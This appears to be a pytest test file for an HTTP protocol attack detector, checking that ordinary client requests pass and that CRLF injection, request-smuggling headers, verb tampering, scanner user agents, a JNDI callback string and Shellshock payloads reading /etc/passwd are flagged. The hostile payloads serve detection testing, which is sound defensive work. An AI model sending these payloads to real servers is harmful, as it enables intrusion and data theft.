"""`protocol.scan`: framing, methods, targets, headers and tools; real clients stay clean."""

from __future__ import annotations

import pytest
from hypothesis import given, strategies as st

from wardgate.decision import Evidence
from wardgate.detect.attacks.model import HttpSample, Severity
from wardgate.detect.attacks.protocol import MAX_HEADER_VALUE, MAX_HEADERS, scan

Headers = tuple[tuple[str, str], ...]

CHROME_UA = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36"
)
FIREFOX_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"
CHAT_BODY = b'{"model":"gpt-4o-mini","messages":[{"role":"user","content":"Say hello"}]}'
MULTIPART_BODY = (
    b'------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name="purpose"'
    b"\r\n\r\nfine-tune\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"
)

CHROME_NAVIGATION: Headers = (
    ("Host", "app.example.com"),
    ("Connection", "keep-alive"),
    ("sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'),
    ("sec-ch-ua-mobile", "?0"),
    ("sec-ch-ua-platform", '"macOS"'),
    ("Upgrade-Insecure-Requests", "1"),
    ("User-Agent", CHROME_UA),
    (
        "Accept",
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
        "image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    ),
    ("Sec-Fetch-Site", "same-origin"),
    ("Sec-Fetch-Mode", "navigate"),
    ("Sec-Fetch-User", "?1"),
    ("Sec-Fetch-Dest", "document"),
    ("Referer", "https://app.example.com/search?q=caf%C3%A9%20au%20lait&page=2"),
    ("Accept-Encoding", "gzip, deflate, br, zstd"),
    ("Accept-Language", "en-US,en;q=0.9,fr;q=0.8"),
    (
        "Cookie",
        "_ga=GA1.1.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig; "
        "prefs=%7B%22theme%22%3A%22dark%22%7D",
    ),
)
OPENAI_PYTHON: Headers = (
    ("Host", "api.example.com"),
    ("Accept-Encoding", "gzip, deflate"),
    ("Connection", "keep-alive"),
    ("Accept", "application/json"),
    ("Content-Type", "application/json"),
    ("User-Agent", "OpenAI/Python 1.54.4"),
    ("X-Stainless-Lang", "python"),
    ("X-Stainless-Package-Version", "1.54.4"),
    ("X-Stainless-OS", "Linux"),
    ("X-Stainless-Arch", "x64"),
    ("X-Stainless-Runtime", "CPython"),
    ("X-Stainless-Runtime-Version", "3.11.9"),
    ("Authorization", "Bearer sk-proj-abcdefghijklmnopqrstuvwxyz0123456789"),
    ("X-Stainless-Async", "false"),
    ("x-stainless-retry-count", "0"),
    ("x-stainless-read-timeout", "600"),
    ("Content-Length", str(len(CHAT_BODY))),
)

CLEAN = [
    # a browser navigation with a Referer carrying an encoded query
    HttpSample("GET", "/dashboard", "tab=usage&from=2024-05-01", CHROME_NAVIGATION),
    # the OpenAI Python SDK
    HttpSample("POST", "/v1/chat/completions", "", OPENAI_PYTHON, CHAT_BODY),
    # the OpenAI Node SDK, streaming
    HttpSample(
        "POST",
        "/v1/chat/completions",
        "",
        (
            ("host", "api.example.com"),
            ("accept", "application/json"),
            ("content-type", "application/json"),
            ("user-agent", "OpenAI/JS 4.67.3"),
            ("x-stainless-lang", "js"),
            ("x-stainless-runtime", "node"),
            ("x-stainless-runtime-version", "v20.11.1"),
            ("authorization", "Bearer sk-test"),
            ("content-length", str(len(CHAT_BODY))),
            ("accept-encoding", "gzip,deflate"),
            ("connection", "keep-alive"),
        ),
        CHAT_BODY,
    ),
    # curl, GET and a JSON POST
    HttpSample(
        "GET",
        "/v1/models",
        "",
        (("Host", "localhost:8080"), ("User-Agent", "curl/8.5.0"), ("Accept", "*/*")),
    ),
    HttpSample(
        "POST",
        "/v1/embeddings",
        "",
        (
            ("Host", "127.0.0.1:8080"),
            ("User-Agent", "curl/8.5.0"),
            ("Accept", "*/*"),
            ("Content-Type", "application/json"),
            ("Authorization", "Bearer sk-test"),
            ("Content-Length", "43"),
        ),
        b'{"model":"text-embedding-3-small","input":"x"}',
    ),
    # python-requests, with an IPv6 Host and an encoded path
    HttpSample(
        "GET",
        "/v1/files/file-abc123/content",
        "purpose=fine-tune&name=caf%C3%A9",
        (
            ("Host", "[::1]:8080"),
            ("User-Agent", "python-requests/2.32.3"),
            ("Accept-Encoding", "gzip, deflate"),
            ("Accept", "*/*"),
            ("Connection", "keep-alive"),
        ),
    ),
    # a browser file upload: multipart with a boundary
    HttpSample(
        "POST",
        "/v1/files",
        "",
        (
            ("Host", "app.example.com"),
            ("User-Agent", FIREFOX_UA),
            (
                "Content-Type",
                "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
            ),
            ("Content-Length", str(len(MULTIPART_BODY))),
            ("Origin", "https://app.example.com"),
        ),
        MULTIPART_BODY,
    ),
    # a browser form post
    HttpSample(
        "POST",
        "/login",
        "",
        (
            ("Host", "app.example.com"),
            ("User-Agent", FIREFOX_UA),
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Content-Length", "29"),
        ),
        b"user=ann&password=p%40ss+word",
    ),
    # a CORS preflight
    HttpSample(
        "OPTIONS",
        "/v1/chat/completions",
        "",
        (
            ("Host", "api.example.com"),
            ("Origin", "https://app.example.com"),
            ("Access-Control-Request-Method", "POST"),
            ("Access-Control-Request-Headers", "authorization,content-type"),
            ("User-Agent", CHROME_UA),
        ),
    ),
    # a chunked upload and a gzip-encoded body
    HttpSample(
        "POST",
        "/v1/uploads",
        "",
        (
            ("Host", "api.example.com"),
            ("Transfer-Encoding", "chunked"),
            ("Content-Type", "application/octet-stream"),
        ),
        b"\x00\x01binary",
    ),
    HttpSample(
        "POST",
        "/v1/batch",
        "",
        (
            ("Host", "api.example.com"),
            ("Content-Type", "application/json; charset=utf-8"),
            ("Content-Encoding", "gzip"),
            ("Content-Length", "20"),
        ),
        b"\x1f\x8b\x08\x00rest",
    ),
    # a media player asking for two ranges, and a JSON body with a BOM and leading space
    HttpSample(
        "GET",
        "/media/clip.mp4",
        "",
        (("Host", "cdn.example.com"), ("Range", "bytes=0-1023, 4096-8191")),
    ),
    HttpSample(
        "PUT",
        "/v1/items/7",
        "",
        (("Host", "api.example.com"), ("Content-Type", "application/merge-patch+json")),
        b'\xef\xbb\xbf \n{"name": "x"}',
    ),
    # GET with Content-Length: 0 has no body; a request with no headers at all
    HttpSample("GET", "/health", "", (("Host", "api"), ("Content-Length", "0"))),
    HttpSample("GET", "/"),
    # chat text sent through a query: line breaks without a header line after them
    HttpSample("GET", "/search", "q=first%20line%0Asecond%20line%0D%0Athird", ()),
    # a header value with an escape that is not a line break, and parentheses
    HttpSample(
        "GET",
        "/",
        "",
        (("Host", "a.example"), ("X-Note", "100%25 (approx) {ok}"), ("Cookie", "a=%01%02")),
    ),
]


@pytest.mark.parametrize("sample", CLEAN)
def test_real_clients_are_clean(sample: HttpSample) -> None:
    assert scan(sample) == []


def _rules(sample: HttpSample) -> list[tuple[str, str, str]]:
    return [(f.kind, f.rule, f.severity) for f in scan(sample)]


def _with(*headers: tuple[str, str], method: str = "GET", body: bytes = b"") -> HttpSample:
    return HttpSample(method, "/v1/x", "", (("Host", "api.example.com"), *headers), body)


P = "attack.protocol"


@pytest.mark.parametrize(
    ("method", "expected"),
    [
        ("PROPFIND", [(P, "protocol.method_webdav", "notice")]),
        ("MKCOL", [(P, "protocol.method_webdav", "notice")]),
        ("TRACE", [(P, "protocol.method_trace", "error")]),
        ("TRACK", [(P, "protocol.method_track", "error")]),
        ("CONNECT", [(P, "protocol.method_connect", "error")]),
        ("FOO", [(P, "protocol.method_unknown", "error")]),
        # methods are case-sensitive: verb tampering past method ACLs
        ("get", [(P, "protocol.method_unknown", "error")]),
        ("GeT", [(P, "protocol.method_unknown", "error")]),
        ("", [(P, "protocol.method_invalid", "error")]),
        ("GET /", [(P, "protocol.method_invalid", "error")]),
        ("G\x00T", [(P, "protocol.method_invalid", "error")]),
    ],
)
def test_methods(method: str, expected: list[tuple[str, str, str]]) -> None:
    assert _rules(HttpSample(method, "/", "", (("Host", "a.example"),))) == expected


@pytest.mark.parametrize("method", ["GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS"])
def test_standard_methods_are_clean(method: str) -> None:
    assert scan(HttpSample(method, "/", "", (("Host", "a.example"),))) == []


CRLF = ("attack.crlf", "protocol.crlf", "critical")


@pytest.mark.parametrize(
    ("sample", "expected"),
    [
        # raw line breaks in a header value or name
        (_with(("X-Lang", "en\r\nSet-Cookie: sid=1")), [CRLF]),
        (_with(("X-Lang", "en\nX: y")), [CRLF]),
        (_with(("X-Evil\r\nSet-Cookie", "1")), [CRLF]),
        # an encoded CR LF then a header line, in a header value
        (_with(("Referer", "https://a/%0d%0aSet-Cookie:%20sid=1")), [CRLF]),
        (_with(("X-Forwarded-Host", "a.example%0D%0ALocation: https://evil")), [CRLF]),
        # ... in the query, with LF alone, a status line, a second body
        (HttpSample("GET", "/r", "lang=en%0d%0aSet-Cookie:%20sid=1"), [CRLF]),
        (HttpSample("GET", "/r", "next=%0aContent-Length:%200"), [CRLF]),
        (HttpSample("GET", "/r", "x=1%0d%0a%0d%0aHTTP/1.1%20200%20OK"), [CRLF]),
        (HttpSample("GET", "/r", "x=1%0d%0a%0d%0a<script>alert(1)</script>"), [CRLF]),
        # ... raw in the query
        (HttpSample("GET", "/r", "x=1\r\nHost: evil"), [CRLF]),
    ],
)
def test_header_injection(sample: HttpSample, expected: list[tuple[str, str, str]]) -> None:
    assert _rules(sample) == expected


def test_crlf_in_the_path_is_both_a_control_character_and_an_injection() -> None:
    sample = HttpSample("GET", "/a%0d%0aSet-Cookie:%20sid=1")
    assert _rules(sample) == [(P, "protocol.path_control", "error"), CRLF]


@pytest.mark.parametrize(
    ("headers", "expected"),
    [
        (
            (("Content-Length", "5"), ("Transfer-Encoding", "chunked")),
            [(P, "protocol.cl_te", "error")],
        ),
        (
            (("Content-Length", "5"), ("Content-Length", "6")),
            [(P, "protocol.content_length_multiple", "error")],
        ),
        # identical duplicates are still two lengths to disagree about
        (
            (("Content-Length", "5"), ("Content-Length", "5")),
            [(P, "protocol.content_length_multiple", "error")],
        ),
        ((("Content-Length", "5, 5"),), [(P, "protocol.content_length_invalid", "error")]),
        ((("Content-Length", "+5"),), [(P, "protocol.content_length_invalid", "error")]),
        ((("Content-Length", "0x10"),), [(P, "protocol.content_length_invalid", "error")]),
        ((("Transfer-Encoding", "gzip, chunked"),), [(P, "protocol.transfer_encoding", "error")]),
        ((("Transfer-Encoding", "xchunked"),), [(P, "protocol.transfer_encoding", "error")]),
        (
            (("Transfer-Encoding", "chunked"), ("Transfer-Encoding", "chunked")),
            [(P, "protocol.transfer_encoding", "error")],
        ),
        ((("Content-Encoding", "compress"),), [(P, "protocol.content_encoding", "warning")]),
        ((("Content-Encoding", "gzip, lzma"),), [(P, "protocol.content_encoding", "warning")]),
        (
            (("Content-Type", "application/json"), ("Content-Type", "text/plain")),
            [(P, "protocol.content_type", "warning")],
        ),
    ],
)
def test_framing(headers: Headers, expected: list[tuple[str, str, str]]) -> None:
    typed = (("Content-Type", "text/plain"), *headers)
    assert _rules(_with(*typed, method="POST")) == expected


@pytest.mark.parametrize(
    ("sample", "expected"),
    [
        (
            _with(("Content-Type", "application/json"), body=b"{}"),
            [(P, "protocol.body_on_get", "notice")],
        ),
        (
            _with(("Content-Type", "text/plain"), ("Content-Length", "3"), method="HEAD"),
            [(P, "protocol.body_on_get", "notice")],
        ),
        (_with(method="POST", body=b"a=1"), [(P, "protocol.content_type_missing", "notice")]),
        (
            HttpSample("POST", "/", "", (), b"a=1"),
            [(P, "protocol.content_type_missing", "notice")],
        ),
        (
            _with(("Content-Type", "application/json"), method="POST", body=b"<?xml ?><a/>"),
            [(P, "protocol.content_type_mismatch", "warning")],
        ),
        (
            _with(("Content-Type", "text/xml"), method="POST", body=b'  {"a": 1}'),
            [(P, "protocol.content_type_mismatch", "warning")],
        ),
        (
            _with(
                ("Content-Type", "application/x-www-form-urlencoded"),
                method="POST",
                body=b'{"a": 1}',
            ),
            [(P, "protocol.content_type_mismatch", "warning")],
        ),
        (
            _with(("Content-Type", "multipart/form-data"), method="POST", body=b"--x\r\n"),
            [(P, "protocol.multipart_boundary", "error")],
        ),
        (
            _with(("Content-Type", "multipart/form-data; boundary="), method="POST", body=b"--"),
            [(P, "protocol.multipart_boundary", "error")],
        ),
        # two boundaries: parsers disagree on which one counts
        (
            _with(
                ("Content-Type", "multipart/form-data; boundary=a; boundary=b"),
                method="POST",
                body=b"--a\r\n",
            ),
            [(P, "protocol.multipart_boundary", "error")],
        ),
        (
            _with(
                ("Content-Type", "multipart/form-data; boundary=" + "x" * 71),
                method="POST",
                body=b"--x",
            ),
            [(P, "protocol.multipart_boundary", "error")],
        ),
    ],
)
def test_bodies(sample: HttpSample, expected: list[tuple[str, str, str]]) -> None:
    assert _rules(sample) == expected


@pytest.mark.parametrize(
    "content_type",
    [
        "application/json",
        "application/vnd.api+json",
        "text/plain",
        "application/octet-stream",
        'multipart/form-data; boundary="quoted boundary"',
        "multipart/mixed; charset=utf-8; Boundary=abc",
    ],
)
def test_bodies_matching_their_type_are_clean(content_type: str) -> None:
    body = b'{"a": 1}' if "json" in content_type else b"--abc\r\n"
    assert scan(_with(("Content-Type", content_type), method="POST", body=body)) == []


@pytest.mark.parametrize(
    ("hosts", "rule", "severity"),
    [
        (("a.example", "b.example"), "protocol.host_multiple", "error"),
        (("",), "protocol.host_empty", "warning"),
        (("  ",), "protocol.host_empty", "warning"),
        (("user:pass@a.example",), "protocol.host_invalid", "error"),
        (("a.example evil.example",), "protocol.host_invalid", "error"),
        (("a.example\t",), "protocol.host_invalid", "error"),
        (("a.example/path",), "protocol.host_invalid", "error"),
        (("a.example:80:80",), "protocol.host_invalid", "error"),
    ],
)
def test_hosts(hosts: tuple[str, ...], rule: str, severity: str) -> None:
    sample = HttpSample("GET", "/", "", tuple(("Host", host) for host in hosts))
    assert _rules(sample) == [(P, rule, severity)]


@pytest.mark.parametrize(
    "host", ["api.example.com", "localhost", "localhost:8080", "10.0.0.1:443", "[2001:db8::1]"]
)
def test_ordinary_hosts_are_clean(host: str) -> None:
    assert scan(HttpSample("GET", "/", "", (("Host", host),))) == []


@pytest.mark.parametrize(
    ("method", "path", "expected"),
    [
        ("GET", "http://evil.example/admin", [(P, "protocol.absolute_target", "warning")]),
        ("GET", "HTTPS://evil.example/", [(P, "protocol.absolute_target", "warning")]),
        ("GET", "admin", [(P, "protocol.target_form", "warning")]),
        ("GET", "", [(P, "protocol.target_form", "warning")]),
        ("GET", "*", [(P, "protocol.target_form", "warning")]),
        ("GET", "/files/a%00.txt", [(P, "protocol.path_control", "error")]),
        ("GET", "/files/a\x00.txt", [(P, "protocol.path_control", "error")]),
        ("GET", "/files/a%0a", [(P, "protocol.path_control", "error")]),
        ("GET", "/files/a%1b[31m", [(P, "protocol.path_control", "error")]),
        ("GET", "/files/café", [(P, "protocol.path_non_ascii", "notice")]),
        (
            "GET",
            "/a\r\nHost: evil",
            [(P, "protocol.path_control", "error"), ("attack.crlf", "protocol.crlf", "critical")],
        ),
    ],
)
def test_request_targets(method: str, path: str, expected: list[tuple[str, str, str]]) -> None:
    assert _rules(HttpSample(method, path, "", (("Host", "a.example"),))) == expected


@pytest.mark.parametrize(
    "path", ["*", "/", "/v1/files/caf%C3%A9", "/a%20b/c%2Fd", "/a/b;v=1", "/~user/x.html"]
)
def test_ordinary_targets_are_clean(path: str) -> None:
    assert scan(HttpSample("OPTIONS", path, "", (("Host", "a.example"),))) == []


def test_too_many_headers() -> None:
    headers = tuple((f"X-H{i}", "1") for i in range(MAX_HEADERS))
    assert _rules(_with(*headers)) == [(P, "protocol.header_count", "warning")]
    assert scan(_with(*headers[:-1])) == []


def test_oversized_header_value() -> None:
    sample = _with(("Cookie", "a=" + "x" * MAX_HEADER_VALUE))
    (finding,) = scan(sample)
    assert (finding.rule, finding.severity) == ("protocol.header_size", "notice")
    assert finding.location is not None and finding.location.slot == "header:cookie"
    # many values that are each small, together over the limit
    assert scan(_with(*((f"X-{i}", "x" * 1_000) for i in range(10)))) == []


@pytest.mark.parametrize(
    ("headers", "expected"),
    [
        ((("Bad Name", "1"),), [(P, "protocol.header_name_invalid", "error")]),
        ((("X-A:", "1"),), [(P, "protocol.header_name_invalid", "error")]),
        ((("", "1"),), [(P, "protocol.header_name_invalid", "error")]),
        ((("X-A", "a\x00b"),), [(P, "protocol.header_control", "error")]),
        ((("X-A", "a\x7f"),), [(P, "protocol.header_control", "error")]),
    ],
)
def test_header_syntax(headers: Headers, expected: list[tuple[str, str, str]]) -> None:
    assert _rules(_with(*headers)) == expected


def test_pseudo_headers_and_tabs_are_clean() -> None:
    sample = _with((":authority", "api.example.com"), ("X-A", "a\tb"))
    assert scan(sample) == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("bytes=" + ",".join(["0-"] * 11), [(P, "protocol.range_abuse", "error")]),
        (
            "bytes=" + ",".join(f"{i * 10}-{i * 10 + 5}" for i in range(20)),
            [(P, "protocol.range_abuse", "error")],
        ),
        ("bytes=0-,0-", [(P, "protocol.range_overlap", "warning")]),
        ("bytes=0-100, 50-150", [(P, "protocol.range_overlap", "warning")]),
        ("bytes=500-, 0-600", [(P, "protocol.range_overlap", "warning")]),
        ("bytes=0-99", []),
        ("bytes=-500", []),
        ("bytes=0-99,100-199,-50", []),
        ("items=0-5,0-5", []),
        ("bytes=²-5,0-5", []),
    ],
)
def test_ranges(value: str, expected: list[tuple[str, str, str]]) -> None:
    assert _rules(_with(("Range", value))) == expected


SCANNER = ("attack.scanner", "protocol.scanner_agent", "critical")


@pytest.mark.parametrize(
    "agent",
    [
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "gobuster/3.6",
        "Fuzz Faster U Fool v2.1.0-dev",
        "Wfuzz/3.1.0",
        "Mozilla/5.0 (Windows NT 10.0) Acunetix-WVS",
        "Mozilla/5.0 (compatible; Netsparker)",
        "feroxbuster/2.10.4",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; WebZIP/7.0)",
        "Mozilla/4.5 (compatible; HTTrack 3.0x; Windows 98)",
        "Internet Ninja 6.0",
        "WordPress Hash Grabber v2.0libwww-perl/6.02",
        "User-Agent: Mozilla/5.0",  # a pasted header line
    ],
)
def test_scanner_agents(agent: str) -> None:
    assert _rules(_with(("User-Agent", agent))) == [SCANNER]


@pytest.mark.parametrize(
    "agent",
    [
        CHROME_UA,
        FIREFOX_UA,
        "curl/8.5.0",
        "python-requests/2.32.3",
        "python-httpx/0.27.0",
        "OpenAI/Python 1.54.4",
        "Go-http-client/2.0",
        "okhttp/4.12.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "PostmanRuntime/7.39.0",
        "Paros-Dental-Booking/1.0",
        "Metisto/2.1 (invoice sync)",  # a word that starts with a scanner's name
    ],
)
def test_ordinary_agents_are_clean(agent: str) -> None:
    assert scan(_with(("User-Agent", agent))) == []


@pytest.mark.parametrize(
    ("headers", "rule"),
    [
        ((("Acunetix-Product", "WVS/14"),), "protocol.scanner_header"),
        ((("X-Wipp", "1"),), "protocol.scanner_header"),
        ((("Referer", "http://abc123.oastify.com/"),), "protocol.scanner_callback"),
        ((("X-Forwarded-For", "x.burpcollaborator.net"),), "protocol.scanner_callback"),
        ((("X-Api-Version", "${jndi:ldap://c0ffee.oast.fun/a}"),), "protocol.scanner_callback"),
        ((("True-Client-IP", "cq1.interact.sh"),), "protocol.scanner_callback"),
    ],
)
def test_scanner_traces(headers: Headers, rule: str) -> None:
    assert _rules(_with(*headers)) == [("attack.scanner", rule, "warning")]


@pytest.mark.parametrize(
    "header",
    [
        ("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
        ("Referer", "() { ignored; }; echo; /usr/bin/id"),
        ("Cookie", "x=(){ :;};ping -c1 10.0.0.1"),
    ],
)
def test_shellshock(header: tuple[str, str]) -> None:
    assert _rules(_with(header)) == [("attack.cmdi", "protocol.shellshock", "critical")]


def test_findings_carry_score_location_and_evidence() -> None:
    (finding,) = scan(_with(("X-Lang", "en\r\nSet-Cookie: a=1")))
    assert finding.score == Severity.CRITICAL
    assert finding.location is not None and finding.location.slot == "header:x-lang"
    assert finding.evidence == Evidence.of("en\r\nSet-Cookie: a=1")


_header_text = st.text(max_size=40)


@given(
    st.text(max_size=12),
    st.text(max_size=60),
    st.text(max_size=60),
    st.lists(st.tuples(_header_text, _header_text), max_size=12),
    st.binary(max_size=64),
)
def test_never_raises(
    method: str, path: str, query: str, headers: list[tuple[str, str]], body: bytes
) -> None:
    for finding in scan(HttpSample(method, path, query, tuple(headers), body)):
        assert finding.kind.startswith("attack.")
        assert finding.rule.startswith("protocol.")


_framing_names = st.sampled_from(
    ["Host", "Content-Length", "Transfer-Encoding", "Content-Type", "Content-Encoding", "Range"]
)


@given(
    st.lists(st.tuples(_framing_names, st.text(alphabet="0123456789-,;= abchunkedx", max_size=30))),
    st.binary(max_size=16),
)
def test_never_raises_on_framing_headers(headers: list[tuple[str, str]], body: bytes) -> None:
    scan(HttpSample("POST", "/", "", tuple(headers), body))


@pytest.mark.timeout(10)
@pytest.mark.parametrize(
    "value",
    ["%0d%0a " * 14_000, "( " * 50_000, "0-1," * 25_000, "; boundary=" * 9_000, "\n" * 100_000],
)
def test_hostile_input_stays_linear(value: str) -> None:
    headers = (
        ("Host", value),
        ("User-Agent", value),
        ("X-A", value),
        ("Range", "bytes=" + value),
        ("Content-Type", "multipart/form-data;" + value),
    )
    scan(HttpSample("POST", "/" + value, value, headers, value.encode()))
